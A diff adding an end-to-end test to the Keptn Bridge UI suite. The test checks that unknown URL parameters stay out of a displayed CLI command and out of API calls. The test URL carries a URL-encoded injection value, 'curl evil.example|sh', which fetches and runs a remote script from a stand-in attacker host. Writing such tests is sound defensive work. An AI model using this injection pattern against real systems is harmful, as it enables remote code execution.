@@ -247,6 +247,16 @@ describe('subscriptions in the Bridge', { timeout: TIMEOUT_MS }, () => {
     await bridge.open('deliveries?subscription=flaky');
     await bridge.shows(/answered 200/);
   });
+
+  it('take nothing from a link that they do not know, neither into a command nor to the API', async () => {
+    await bridge.open('deliveries?x%3B%20curl%20evil.example%7Csh%20%23=1&outcome=foo&keptnContext=abc');
+    await bridge.shows('There are no deliveries like this.');
+    const command = bridge.page.getByLabel('command that lists', { exact: true });
+    expect(await command.textContent()).toBe('keptn get deliveries --keptn-context=abc');
+    await bridge.open('runs?kind=foo&utm_source=slack');
+    await bridge.isAt('Runs');
+    await bridge.shows(/ of carts/);
+  });
 });
 
 describe('the system in the Bridge', { timeout: TIMEOUT_MS }, () => {
